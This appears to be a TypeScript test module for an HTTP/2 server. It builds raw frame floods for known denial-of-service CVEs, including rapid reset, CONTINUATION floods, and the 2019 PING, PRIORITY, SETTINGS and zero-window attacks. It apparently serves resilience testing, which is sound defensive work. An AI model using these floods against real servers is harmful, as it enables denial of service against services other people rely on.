import { END_HEADERS, END_STREAM, FRAME, SETTING } from '../helpers/raw-client.js';
import type { Attack } from './attacks.js';
import { block, frame, headers, openWindow, type Peer, reset, settings, word } from './peer.js';
import { flood } from './strategy.js';

const LATE = block('/late?ms=20');
const BODY = block('/sum', 'POST');
const PADDED = 8;

/** |count| times what |make| gives, in one piece. */
function pieces(count: number, make: (peer: Peer) => Buffer[]): (peer: Peer) => Buffer {
  return (peer) => Buffer.concat(Array.from({ length: count }, () => Buffer.concat(make(peer))));
}

/** The same bytes each time. */
function same(count: number, bytes: Buffer): (peer: Peer) => Buffer {
  const all = Buffer.concat(Array.from({ length: count }, () => bytes));
  return () => all;
}

/** Floods of streams that are reset by the server, each for what follows its HEADERS. Never more at a time than it allows, which
 * would be an error of the connection. */
function made(fields: Buffer, end: boolean, after: (stream: number) => Buffer[]): Attack {
  const make = pieces(50, (peer) => {
    const stream = peer.stream();
    return [headers(stream, fields, end), ...after(stream)];
  });
  return flood(make, { frames: 100, pace: (peer) => peer.when(() => peer.resets >= peer.streams) });
}

/** Frames on a stream that is opened first. */
function onStream(count: number, bytes: (stream: number) => Buffer, options = {}): Attack {
  const make = (peer: Peer): Buffer => {
    const first = peer.streams === 0;
    const stream = first ? peer.stream() : 1;
    const all = Array.from({ length: count }, () => bytes(stream));
    return Buffer.concat(first ? [headers(stream, BODY, false), ...all] : all);
  };
  return flood(make, { frames: count, ...options });
}

/** A block that is begun and goes on in CONTINUATION frames without end. */
function endless(count: number, fragment: Buffer, first: Buffer = BODY): Attack {
  const make = (peer: Peer): Buffer => {
    const stream = peer.streams === 0 ? [frame(FRAME.headers, 0, peer.stream(), first)] : [];
    return Buffer.concat([
      ...stream,
      ...Array.from({ length: count }, () => frame(FRAME.continuation, 0, 1, fragment)),
    ]);
  };
  return flood(make, { frames: count });
}

const overWindow = Buffer.alloc(16_384);
const priority = (stream: number, on: number): Buffer =>
  frame(FRAME.priority, 0, stream, Buffer.concat([word(on), Buffer.of(15)]));

export const floods: Record<string, Attack> = {
  'rapid reset (CVE-2023-44487)': flood(
    pieces(100, (peer) => {
      const stream = peer.stream();
      return [headers(stream, LATE), reset(stream)];
    }),
    { frames: 200 },
  ),

  'made to reset: WINDOW_UPDATE of 0 (CVE-2025-8671)': made(LATE, true, (id) => [openWindow(id, 0)]),
  'made to reset: window overflow (CVE-2025-8671)': made(LATE, true, (id) => [openWindow(id, 0x7fffffff)]),
  'made to reset: DATA after END_STREAM (CVE-2025-8671)': made(LATE, true, (id) => [
    frame(FRAME.data, 0, id, Buffer.from('x')),
  ]),
  'made to reset: HEADERS after END_STREAM (CVE-2025-8671)': made(LATE, true, (id) => [headers(id, LATE)]),
  'made to reset: PRIORITY on itself (CVE-2025-8671)': onStream(1000, (stream) => priority(stream, stream)),
  'made to reset: DATA over the window (CVE-2025-8671)': made(BODY, false, (id) => [
    frame(FRAME.data, 0, id, overWindow),
  ]),
  'made to reset: content-length that lies (CVE-2025-8671)': made(
    block('/sum', 'POST', { 'content-length': '1' }),
    false,
    (id) => [frame(FRAME.data, END_STREAM, id, Buffer.from('too long'))],
  ),
  'made to reset: RST_STREAM of a wrong length (CVE-2025-8671)': made(LATE, true, (id) => [
    frame(FRAME.reset, 0, id, Buffer.alloc(3)),
  ]),
  'made to reset: WINDOW_UPDATE of a wrong length (CVE-2025-8671)': made(LATE, true, (id) => [
    frame(FRAME.windowUpdate, 0, id, Buffer.alloc(3)),
  ]),
  'made to reset: PRIORITY of a wrong length (CVE-2025-8671)': made(LATE, true, (id) => [
    frame(FRAME.priority, 0, id, Buffer.alloc(4)),
  ]),

  'CONTINUATION without end (CVE-2024-27316)': endless(50, block('/never', 'GET', { 'x-long': 'x'.repeat(1000) })),
  'CONTINUATION, many and empty (CVE-2024-28182)': endless(2000, Buffer.alloc(0)),
  'CONTINUATION, blocks of seven frames each (CVE-2024-28182)': flood(
    pieces(20, (peer) => {
      const stream = peer.stream();
      const empty = Array.from({ length: 6 }, () => frame(FRAME.continuation, 0, stream));
      return [
        frame(FRAME.headers, END_STREAM, stream, LATE),
        ...empty,
        frame(FRAME.continuation, END_HEADERS, stream),
        reset(stream),
      ];
    }),
    { frames: 180 },
  ),

  'one-byte windows with a large answer on each stream (CVE-2019-9511)': flood(
    pieces(1, (peer) => {
      if (peer.streams === 0) {
        return Array.from({ length: 100 }, () => headers(peer.stream(), block('/big?size=20000')));
      }
      return Array.from({ length: 100 }, (_, at) => openWindow(2 * at + 1, 1));
    }),
    { frames: 100, settings: [[SETTING.initialWindowSize, 1]], window: 2 ** 30 },
  ),
  'PING (CVE-2019-9512)': flood(same(1000, frame(FRAME.ping, 0, 0, Buffer.alloc(8))), { frames: 1000 }),
  'PRIORITY (CVE-2019-9513)': flood(
    same(1, Buffer.concat(Array.from({ length: 1000 }, (_, at) => priority(2 * at + 1, (2 * at + 3) % 1999)))),
    { frames: 1000 },
  ),
  'streams that are refused, reset at once (CVE-2019-9514)': flood(
    pieces(100, (peer) => {
      if (peer.streams === 0) return Array.from({ length: 100 }, () => headers(peer.stream(), BODY, false));
      const stream = peer.stream();
      return [headers(stream, block('/never')), reset(stream)];
    }),
    // Where it had acknowledged the limit, a stream too many would be an error of the connection.
    { frames: 200, acknowledges: false },
  ),
  'streams that are malformed (CVE-2019-9514)': flood(
    pieces(100, (peer) => [headers(peer.stream(), block('/never', 'GET', { 'Upper-Case': 'x' }))]),
    { frames: 100 },
  ),
  'SETTINGS (CVE-2019-9515)': flood(
    same(500, settings([SETTING.initialWindowSize, 65_535], [SETTING.maxHeaderListSize, 4096])),
    { frames: 500 },
  ),
  'fields without name and value (CVE-2019-9516)': flood(
    pieces(10, (peer) => [headers(peer.stream(), Buffer.concat([LATE, Buffer.alloc(3 * 4000)]))]),
    { frames: 10 },
  ),
  'empty DATA (CVE-2019-9518)': onStream(1000, (stream) => frame(FRAME.data, 0, stream)),
  'DATA of padding alone (CVE-2019-9518)': onStream(1000, (stream) =>
    frame(FRAME.data, PADDED, stream, Buffer.from([1, 0])),
  ),
  'WINDOW_UPDATE of one byte': flood(same(1000, openWindow(0, 1)), { frames: 1000 }),
  'frames of unknown types': flood(same(1000, frame(0xbe, 0, 0, Buffer.alloc(4))), { frames: 1000 }),
};
